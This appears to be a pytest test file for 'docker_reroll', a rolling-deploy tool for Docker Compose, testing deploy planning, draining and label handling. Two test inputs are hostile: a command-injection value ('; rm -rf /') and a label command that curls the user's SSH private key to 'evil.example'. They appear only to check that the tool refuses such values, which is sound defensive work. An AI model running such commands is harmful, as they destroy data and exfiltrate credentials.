"""The deploy's decisions, without a daemon: planning, refusals, phases, pre-stop substitution, the drain."""

import pytest

from docker_reroll.errors import RefusedError, UsageError
from docker_reroll.model import Container, Journal, ProjectConfig, ServiceSpec, Status, serving
from docker_reroll.options import OPTIONS_BY_DEST, Options
from docker_reroll.planning import (
    NO_DRAIN,
    check_history,
    plan_batches,
    plan_deploy,
    plan_drain,
    pre_stop_command,
)
from docker_reroll.release_planning import ReleaseFacts, check_exists, dependency_order, plan_release
from docker_reroll.vocabulary import Phase, rolls_back
from docker_reroll.watch import all_healthy, all_unhealthy, still_serving


def box(number, status="running", health="healthy", exit_code=0):
    return Container(id=f"{number:064x}", name=f"p-web-{number}", status=status, health=health,
                     exit_code=exit_code, labels={"com.docker.compose.container-number": str(number)})


def test_plan_counts_running_containers_and_sets_stopped_ones_aside():
    plan = plan_deploy([box(3), box(1), box(2, status="exited"), box(4, status="created"), box(5, status="dead")])
    assert [c.number for c in plan.old] == [1, 3]
    assert sorted(c.number for c in plan.stale) == [2, 4, 5]
    assert plan.replicas == 2 and plan.scale_to == 4 and not plan.first_start


def test_restarting_and_paused_containers_are_replicas_to_replace():
    """A crash-looping service is the usual reason to deploy a fix: its containers still count."""
    plan = plan_deploy([box(1, status="restarting", health=None), box(2), box(3, status="paused")])
    assert plan.replicas == 3 and not plan.first_start and plan.scale_to == 6
    assert not plan_deploy([box(1, status="restarting", health=None)]).first_start


def test_plan_with_nothing_running_is_a_first_start():
    plan = plan_deploy([box(1, status="exited")])
    assert plan.first_start and plan.replicas == 0 and plan.old == []


def test_plan_after_an_interrupted_deploy_restores_the_journal_count():
    # 2 old + 2 half-made new containers are running, but the service had 2 before the interrupted deploy.
    plan = plan_deploy([box(1), box(2), box(3, health="starting"), box(4)], Journal(2))
    assert plan.replicas == 2 and len(plan.old) == 4 and plan.scale_to == 6


def test_scale_sets_the_count_whatever_runs_or_the_journal_says():
    assert plan_deploy([box(1)], scale=3).replicas == 3
    assert plan_deploy([box(1), box(2), box(3)], Journal(2), scale=1).replicas == 1
    first = plan_deploy([], scale=2)
    assert first.first_start and first.replicas == 2


def test_paused_containers_are_replicas_to_unpause_before_compose_scales():
    plan = plan_deploy([box(1), box(2, status="paused", health="healthy")])
    assert [c.number for c in plan.paused] == [2] and plan.replicas == 2


def hashed(number, config, **kwargs):
    """A container with compose's config hash, and an id whose short form (12 characters) is its own."""
    container = box(number, **kwargs)
    return Container(**{**container.__dict__, "id": f"{number:012x}".ljust(64, "f"),
                        "labels": {**container.labels, "com.docker.compose.config-hash": config}})


def test_two_configs_and_no_journal_is_a_lost_journal_and_the_count_is_not_guessed():
    """A deploy killed half-way whose journal was pruned: counting all four would keep the service doubled."""
    old = [hashed(1, "a"), hashed(2, "a"), hashed(3, "b"), hashed(4, "b")]
    with pytest.raises(RefusedError, match=r"runs containers of 2 configs \(p-web-1, p-web-2; p-web-3, p-web-4\)"
                                           r".*--scale web=N"):
        check_history("web", old, None, None)
    check_history("web", old, None, 2)  # --scale says it
    check_history("web", [hashed(1, "a"), hashed(2, "a")], None, None)  # one config: a normal deploy


def test_a_journal_does_not_grow_a_service_changed_by_hand_since():
    old = [hashed(1, "a"), hashed(2, "a"), hashed(3, "b"), hashed(4, "b")]
    journal = Journal(2, [c.short_id for c in old[:2]])
    check_history("web", old, journal, None)  # its own half-made containers: 2 more than it recorded
    grown = old + [hashed(5, "b"), hashed(6, "b")]
    with pytest.raises(RefusedError, match=r"took web from 2 container.* to 2, but now it runs 6.*changed by hand"):
        check_history("web", grown, journal, None)
    check_history("web", grown, journal, 6)
    check_history("web", old[1:], journal, None)  # a batch retired p-web-1 after its replacement started
    # 2 retired: at most 2 new ones and 2 old-config clones of a roll-back across batches; 5 is too many
    with pytest.raises(RefusedError, match="now it runs 5"):
        check_history("web", old[2:] + [hashed(5, "b"), hashed(6, "b"), hashed(7, "b")], journal, None)


def test_a_deploy_killed_during_its_scale_up_leaves_fewer_than_its_target_and_is_finished():
    """`--scale web=6` from 2, killed after 2 of the 4 extra containers started: the journal's count is the
    target, and the next run goes there."""
    old = [hashed(1, "a"), hashed(2, "a"), hashed(3, "b"), hashed(4, "b")]
    journal = Journal(6, [c.short_id for c in old[:2]])
    check_history("web", old, journal, None)
    assert plan_deploy(old, journal).replicas == 6


def test_only_phases_before_the_first_pre_stop_roll_back():
    assert [p for p in Phase if rolls_back(p)] == [Phase.PREPARE, Phase.SCALE_UP, Phase.WAIT_READY]


def config(**spec):
    return ProjectConfig(name="p", services={"db": ServiceSpec(name="db"), "web": ServiceSpec(name="web", **spec)})


@pytest.mark.parametrize("spec, message", [
    ({"container_name": "web1"}, "sets container_name 'web1'"),
    ({"network_mode": "host"}, "network_mode: host"),
    ({"fixed_host_ports": ["8080:80"]}, "fixed host port(s) 8080:80"),
])
def test_services_that_cannot_run_twice_are_refused(spec, message):
    with pytest.raises(RefusedError, match=message.replace("(", r"\(").replace(")", r"\)")):
        plan_release(config(**spec), NO_FACTS, {}, named=["web"])


def test_unknown_service_lists_the_defined_ones_and_profiles_are_named():
    missing = config()
    with pytest.raises(RefusedError, match=r"no such service: 'api' \(defined services: db, web\)"):
        check_exists(missing, "api", [])
    with pytest.raises(RefusedError, match="disabled by its profiles"):
        plan_release(missing, NO_FACTS, {}, named=["web", "api"], profile_services=["api", "db", "web"])
    [step] = plan_release(config(network_mode="bridge"), NO_FACTS, {}, named=["web"])  # a plain service passes
    assert (step.action, step.reason) == ("roll", "named on the command line")


def test_pre_stop_command_gets_only_a_hex_id():
    assert pre_stop_command("docker exec {id} touch /.dead; echo {id}", "ab12") == \
        "docker exec ab12 touch /.dead; echo ab12"
    with pytest.raises(ValueError):
        pre_stop_command("x {id}", "ab; rm -rf /")


def test_readiness_verdicts():
    assert all_healthy([box(1), box(2)]).done
    assert all_healthy([box(1), box(2, health="starting")]) is None
    assert all_healthy([box(1, health="unhealthy")]) is None  # may still recover within the timeout
    failed = all_healthy([box(1), box(2, status="exited", exit_code=3)])
    assert failed.how == "failed" and "p-web-2 exited with code 3" in failed.reason
    assert all_healthy([box(1, status=Status.REMOVED)]).how == "failed"
    assert still_serving([box(1, health=None)]) is None
    assert still_serving([box(1, health=None, status="dead")]).how == "failed"


def test_drain_verdict():
    assert all_unhealthy([box(1, health="unhealthy"), box(2, status="exited")]).done
    assert all_unhealthy([box(1, health="unhealthy"), box(2)]) is None
    assert all_unhealthy([box(1, health="starting")]) is None, "a starting container may be in the proxy's pool"


def drain_options(**values):
    options = Options()
    for key, value in values.items():
        setattr(options, key, value)
    return options


RECIPE = dict(pre_stop_cmd="docker exec {id} touch /.dead", pre_stop_wait_until_unhealthy=True,
              wait_after_unhealthy=2.0)


def test_old_containers_are_all_drained_with_the_recipe_and_only_healthy_ones_are_waited_for():
    old = [box(1), box(2, health="unhealthy"), box(3, health=None), box(4, status="exited")]
    drain = plan_drain(old, drain_options(**RECIPE), rolling_back=False)
    assert [c.number for c in drain.containers] == [1, 2, 3]
    assert drain.pre_stop and drain.pause == 2.0 and drain.warnings == []
    # 2 is unhealthy already, 3 has no health check: only 1 has a change left for Docker to report
    assert [c.number for c in drain.wait_unhealthy] == [1]
    assert drain.floor == OPTIONS_BY_DEST["drain_time"].default == 1.0


def test_the_floor_is_the_drain_time_and_zero_turns_it_off():
    assert plan_drain([box(1)], drain_options(**RECIPE, drain_time=3.5), rolling_back=False).floor == 3.5
    assert plan_drain([box(1)], drain_options(**RECIPE, drain_time=0.0), rolling_back=False).floor == 0.0
    assert plan_drain([box(1)], drain_options(), rolling_back=False) == NO_DRAIN, "no drain asked for: no floor"


def test_a_roll_back_drains_new_containers_that_a_proxy_may_use_and_never_waits_for_the_impossible():
    new = [box(1, health="starting"), box(2), box(3, health="unhealthy"), box(4, status="created", health=None)]
    drain = plan_drain(new, drain_options(**RECIPE), rolling_back=True)
    # 3 is unhealthy for Docker, but a proxy with its own check may still route to it: drained, not waited for
    assert [c.number for c in drain.containers] == [1, 2, 3] and drain.pre_stop
    # 1 has never been healthy: within its start period Docker cannot call it unhealthy, so pre-stop + floor only
    assert [c.number for c in drain.wait_unhealthy] == [2]
    assert drain.floor == 1.0 and drain.notes == [
        "p-web-1 never turned healthy, so Docker cannot report it unhealthy: drained for --drain-time only"]
    # Without a pre-stop command nothing makes a new container fail its check: nothing to drain on a roll-back.
    assert plan_drain(new, drain_options(pre_stop_wait_until_unhealthy=True), rolling_back=True) == NO_DRAIN
    assert plan_drain(new, drain_options(pre_stop_wait_until_unhealthy=True), rolling_back=False).wait_unhealthy


def test_a_crash_recovery_retires_half_made_starting_containers_without_waiting_for_unhealthy():
    """The old set of a recovery run holds the killed run's new containers, possibly still in their start period."""
    old = [box(1), box(2), box(3, health="starting"), box(4, health="starting")]
    drain = plan_drain(old, drain_options(**RECIPE), rolling_back=False)
    assert [c.number for c in drain.containers] == [1, 2, 3, 4]
    assert [c.number for c in drain.wait_unhealthy] == [1, 2]


def test_without_a_health_check_the_pre_stop_command_and_the_floor_are_the_drain():
    old = [box(1, health=None), box(2, health=None)]
    drain = plan_drain(old, drain_options(**RECIPE), rolling_back=False)
    assert drain.pre_stop and drain.wait_unhealthy == [] and drain.floor == 1.0
    assert drain.warnings == [] and drain.notes == []


def test_no_drain_options_means_straight_to_stop_and_a_useless_wait_is_a_warning():
    assert plan_drain([box(1)], drain_options(wait_after_unhealthy=5.0), rolling_back=False) == NO_DRAIN
    drain = plan_drain([box(1, health=None)], drain_options(pre_stop_wait_until_unhealthy=True), rolling_back=False)
    assert drain.wait_unhealthy == [] and "no health check" in drain.warnings[0]


def test_readiness_verdicts_keep_checking_after_healthy():
    assert still_serving([box(1), box(2, health=None)]) is None
    turned = still_serving([box(1), box(2, health="unhealthy")])
    assert turned.how == "failed" and "p-web-2 turned unhealthy" in turned.reason
    assert still_serving([box(1, status="exited", exit_code=1)]).how == "failed"
    assert serving(box(1)) and serving(box(2, health=None)) and not serving(box(3, health="starting"))
    assert not serving(box(4, health=None, status="exited"))


# --------------------------------------------------------------------------------------------- batches


@pytest.mark.parametrize("old, replicas, surge, batches", [
    (4, 4, None, [(4, 4)]),  # the classic doubling: one batch
    (4, 4, 1, [(1, 1), (1, 1), (1, 1), (1, 1)]),
    (4, 4, 2, [(2, 2), (2, 2)]),
    (4, 4, 3, [(3, 3), (1, 1)]),
    (1, 3, None, [(3, 1)]),  # --scale web=3 from 1
    (5, 3, None, [(3, 5)]),  # --scale web=3 from 5: the last batch retires every old one
    (5, 3, 2, [(2, 2), (1, 3)]),
    (1, 5, 2, [(2, 1), (2, 0), (1, 0)]),
    (10, 10, 2, [(2, 2)] * 5),
])
def test_batches_start_and_retire_and_never_leave_fewer_ready_than_before(old, replicas, surge, batches):
    planned = plan_batches(old, replicas, surge)
    assert [(b.start, b.retire) for b in planned] == batches
    ready, running_old = old, old
    for batch in planned[:-1]:  # after each batch but the last: never fewer than it had
        ready += batch.start - batch.retire
        running_old -= batch.retire
        assert ready >= old
    assert sum(b.start for b in planned) == replicas and sum(b.retire for b in planned) == old


# --------------------------------------------------------------------------------------------- a release


def svc(name, **kwargs):
    return ServiceSpec(name=name, **kwargs)


NO_FACTS = ReleaseFacts({}, {}, {})


def running(service, config, count=1, number=1, status="running"):
    return [Container(id=f"{service}{i}".ljust(64, "0"), name=f"p-{service}-{i}", status=status, health=None,
                      labels={"com.docker.compose.service": service, "com.docker.compose.config-hash": config,
                              "com.docker.compose.container-number": str(i)})
            for i in range(number, number + count)]


def test_the_release_plan_rolls_recreates_and_skips_in_dependency_order():
    project = ProjectConfig(name="p", services={
        "proxy": svc("proxy", fixed_host_ports=["80:80"], depends_on=["web", "api"]),
        "db": svc("db", labels={"docker-reroll.strategy": "recreate"}),
        "api": svc("api", depends_on=["db"]),
        "web": svc("web", depends_on=["api"]),
        "docs": svc("docs"),
        "job": svc("job"),
    })
    containers = {"proxy": running("proxy", "p0"), "db": running("db", "d1"), "api": running("api", "a0", 2),
                  "web": running("web", "w1"), "docs": running("docs", "s1"),
                  "job": running("job", "j1", status="exited")}
    hashes = {"proxy": "p1", "db": "d1", "api": "a1", "web": "w1", "docs": "s1", "job": "j1"}

    steps = plan_release(project, ReleaseFacts(containers, hashes, {}), {"web": 3})

    assert [(s.service, s.action) for s in steps] == [
        ("db", "skip"), ("api", "roll"), ("docs", "skip"), ("job", "recreate"), ("web", "roll"),
        ("proxy", "recreate")]
    reasons = {s.service: s.reason for s in steps}
    assert reasons["api"] == "its config changed (2 of 2 container(s) on an older one)"
    assert reasons["web"] == "1 container(s) run, 3 wanted"
    assert reasons["proxy"].endswith("cannot be rolled, it publishes fixed host port(s) 80:80: recreated by compose")
    assert "started by compose" in reasons["job"] and "run the current config and image" in reasons["docs"]
    assert "marked docker-reroll.strategy=recreate" not in reasons["db"], "unchanged: skipped, not recreated"


def test_a_changed_database_marked_recreate_is_left_to_compose_and_v1_rolls_everything():
    project = ProjectConfig(name="p", services={"db": svc("db", labels={"docker-reroll.strategy": "recreate"}),
                                                "web": svc("web")})
    containers = {"db": running("db", "old"), "web": running("web", "w")}
    [db, web] = plan_release(project, ReleaseFacts(containers, {"db": "new", "web": "w"}, {}), {})
    assert (db.action, web.action) == ("recreate", "skip")
    assert "marked docker-reroll.strategy=recreate" in db.reason
    [db, web] = plan_release(project, ReleaseFacts(containers, {}, {}), {})  # compose v1: no hashes to compare
    assert (db.action, web.action) == ("recreate", "roll") and "compose v1 cannot tell" in web.reason


def test_a_dependency_cycle_is_refused():
    project = ProjectConfig(name="p", services={"a": svc("a", depends_on=["b"]), "b": svc("b", depends_on=["a"])})
    with pytest.raises(RefusedError, match="depends_on forms a cycle: a -> b -> a"):
        dependency_order(project)


def test_update_config_fills_in_what_the_command_line_left_out():
    from docker_reroll.options import Options

    options = Options()
    resolved = options.for_service("web", {"parallelism": 2, "delay": "1m30s", "monitor": "500ms",
                                           "failure_action": "pause", "max_failure_ratio": 0.25,
                                           "order": "stop-first"}, {})
    assert (resolved.max_surge, resolved.update_delay, resolved.update_monitor) == (2, 90.0, 0.5)
    assert (resolved.failure_action, resolved.max_failure_ratio, resolved.update_order) == ("pause", 0.25,
                                                                                           "stop-first")
    assert resolved.source("max_surge") == "deploy.update_config.parallelism"
    options.set("max_surge", 1, "command line")
    assert options.for_service("web", {"parallelism": 2}, {}).max_surge == 1, "the command line wins"
    assert Options().for_service("web", {"parallelism": 0}, {}).max_surge is None, "0: all at once"
    with pytest.raises(ValueError, match="deploy.update_config.failure_action: must be one of"):
        Options().for_service("web", {"failure_action": "explode"}, {})
    assert Options().for_service("web", {"parallelism": 10000}, {}).max_surge == 10000


@pytest.mark.parametrize("parallelism", [-1, 10001, pytest.param("9" * 5000, id="5000-digits"), "2x", True])
def test_a_parallelism_that_is_no_count_of_containers_is_refused_with_its_bound(parallelism):
    """Seen before: 5,000 digits gave Python's own message about its int conversion limit, and any count was
    taken."""
    from docker_reroll.options import Options

    with pytest.raises(ValueError, match="deploy.update_config.parallelism: expected a whole number from 0 to "
                                         "10000, not "):
        Options().for_service("web", {"parallelism": parallelism}, {})


def test_labels_fill_in_settings_and_the_command_line_wins():
    from docker_reroll.errors import UsageError
    from docker_reroll.options import Options

    labels = {"docker-reroll.pre-stop-exec": "touch /.dead", "docker-reroll.pre-stop-wait-until-unhealthy": "true",
              "docker-reroll.drain-time": "2.5", "docker-reroll.wait": ".5", "other.label": "x"}
    resolved = Options().for_service("web", {}, labels)
    assert (resolved.pre_stop_exec, resolved.pre_stop_wait_until_unhealthy, resolved.drain_time, resolved.wait) == \
        ("touch /.dead", True, 2.5, 0.5)
    assert resolved.source("drain_time") == "label docker-reroll.drain-time" and resolved.pre_stop
    given = Options()
    given.set("pre_stop_cmd", "docker exec {id} kill -USR1 1", "command line")
    given.set("drain_time", 4.0, "command line")
    over = given.for_service("web", {}, labels)
    assert over.pre_stop_exec is None and over.pre_stop_cmd == "docker exec {id} kill -USR1 1", \
        "a pre-stop command on the command line replaces the label's, of either kind"
    assert over.drain_time == 4.0 and over.source("drain_time") == "command line"
    assert over.pre_stop_wait_until_unhealthy is True, "labels the command line did not set still count"
    for label, value in [("docker-reroll.drain-time", "soon"), ("docker-reroll.pre-stop-wait-until-unhealthy", "sure"),
                         ("docker-reroll.pre-stop-cmd", " ")]:
        with pytest.raises(UsageError, match=f"invalid value '{value}' for label {label} of service 'web'"):
            Options().for_service("web", {}, {label: value})
    with pytest.raises(UsageError, match="sets both docker-reroll.pre-stop-cmd and docker-reroll.pre-stop-exec"):
        Options().for_service("web", {}, {"docker-reroll.pre-stop-cmd": "x", "docker-reroll.pre-stop-exec": "y"})


def test_a_service_marked_recreate_is_recreated_however_it_is_selected():
    """Named or with --all, a database that must never run twice is left to compose's stop-then-start."""
    project = ProjectConfig(name="p", services={"db": svc("db", labels={"docker-reroll.strategy": "recreate"},
                                                          fixed_host_ports=["5432:5432"]),
                                                "api": svc("api")})
    facts = ReleaseFacts({"db": running("db", "d"), "api": running("api", "a")}, {}, {})
    [db] = plan_release(project, facts, {}, named=["db"])
    assert db.action == "recreate" and "marked docker-reroll.strategy=recreate" in db.reason
    api, db = plan_release(project, facts, {}, named=["api", "db"])
    assert (api.action, db.action) == ("roll", "recreate")
    with pytest.raises(UsageError, match="invalid value 'recreat' for label docker-reroll.strategy of service 'db'"):
        plan_release(ProjectConfig(name="p", services={"db": svc("db", labels={"docker-reroll.strategy":
                                                                               "recreat"})}), facts, {}, ["db"])


def test_compose_v1_takes_the_strategy_from_the_running_containers_and_says_so():
    project = ProjectConfig(name="p", services={"db": svc("db", known=False), "web": svc("web", known=False)})
    marked = [Container(**{**c.__dict__, "labels": {**c.labels, "docker-reroll.strategy": "recreate"}})
              for c in running("db", "d")]
    facts = ReleaseFacts({"db": marked, "web": running("web", "w")}, {}, {})
    db, web = plan_release(project, facts, {}, named=["db", "web"])
    assert db.action == "recreate" and "compose v1 cannot show the compose file's labels" in db.warnings[0]
    assert web.action == "roll" and "docker-reroll.strategy is unknown" in web.warnings[0], "never silently"


def test_all_rolls_a_service_whose_tag_now_names_another_image():
    """`docker compose pull` or `build` moved app:latest: compose's own `up` would recreate, so --all rolls."""
    project = ProjectConfig(name="p", services={"app": svc("app"), "docs": svc("docs")})
    app = [Container(**{**c.__dict__, "image": "app:latest", "image_id": "sha256:" + "1" * 64})
           for c in running("app", "a", count=2)]
    docs = [Container(**{**c.__dict__, "image": "docs:1", "image_id": "sha256:" + "3" * 64})
            for c in running("docs", "s")]
    images = {"app:latest": "sha256:" + "2" * 64, "docs:1": "sha256:" + "3" * 64}
    app_step, docs_step = plan_release(project, ReleaseFacts({"app": app, "docs": docs}, {"app": "a", "docs": "s"},
                                                             images), {})
    assert (app_step.action, docs_step.action) == ("roll", "skip")
    assert app_step.reason == "its image changed: app:latest is now 222222222222, 2 of 2 container(s) run " \
                              "111111111111"
    images["app:latest"] = None
    [app_step, _] = plan_release(project, ReleaseFacts({"app": app, "docs": docs}, {"app": "a", "docs": "s"},
                                                       images), {})
    assert app_step.action == "roll" and "not on the engine: compose would pull or build it" in app_step.reason


def test_replicas_zero_in_the_file_takes_the_service_down_with_compose():
    project = ProjectConfig(name="p", services={"web": svc("web", replicas=0, replicas_key="deploy.replicas")})
    [step] = plan_release(project, ReleaseFacts({"web": running("web", "w", count=2)}, {"web": "w"}, {}), {})
    assert (step.action, step.reason) == ("recreate", "deploy.replicas is 0: compose stops its 2 container(s)")
    [step] = plan_release(project, ReleaseFacts({"web": running("web", "w", status="exited")}, {"web": "w"}, {}),
                          {})
    assert step.action == "skip", "already down: nothing to do on every run"
    [step] = plan_release(project, NO_FACTS, {}, named=["web"])
    assert step.action == "skip" and "0" in step.reason
    [step] = plan_release(project, ReleaseFacts({"web": running("web", "w")}, {}, {}), {"web": 2}, named=["web"])
    assert step.action == "roll", "--scale wins over the file"


def test_a_misspelled_label_is_a_warning_naming_the_closest_known_one():
    project = ProjectConfig(name="p", services={"web": svc("web", labels={"docker-reroll.drian-time": "2",
                                                                          "docker-reroll.zzz": "1",
                                                                          "com.example.other": "x"})})
    [step] = plan_release(project, NO_FACTS, {}, named=["web"])
    assert step.warnings[0] == "web: unknown label docker-reroll.drian-time, ignored; did you mean " \
                               "docker-reroll.drain-time?"
    assert step.warnings[1].startswith("web: unknown label docker-reroll.zzz, ignored; known labels: ")
    assert len(step.warnings) == 2


def test_a_host_command_from_a_label_runs_only_when_the_user_allows_it():
    """A compose file (maybe from `include:` or a `${VAR}`) must not run commands on the deploying machine."""
    labels = {"docker-reroll.pre-stop-cmd": "curl -d @$HOME/.ssh/id_rsa evil.example"}
    with pytest.raises(RefusedError, match=r"label docker-reroll.pre-stop-cmd, a command for this machine's shell.*"
                                           r"--allow-label-cmd \(or DOCKER_REROLL_ALLOW_LABEL_CMD=1\).*"
                                           r"docker-reroll.pre-stop-exec"):
        Options().for_service("web", {}, labels)
    allowed = Options()
    allowed.set("allow_label_cmd", True, "command line")
    resolved = allowed.for_service("web", {}, labels)
    assert resolved.pre_stop_cmd == labels["docker-reroll.pre-stop-cmd"]
    assert resolved.source("pre_stop_cmd") == "label docker-reroll.pre-stop-cmd, allowed by command line"
    typed = Options()
    typed.set("pre_stop_cmd", "docker exec {id} touch /.dead", "command line")
    assert typed.for_service("web", {}, labels).pre_stop_cmd == "docker exec {id} touch /.dead", \
        "the command line's own command needs no permission and replaces the label's"
    assert Options().for_service("web", {}, {"docker-reroll.pre-stop-exec": "touch /.dead"}).pre_stop_exec, \
        "a command inside the container needs none"
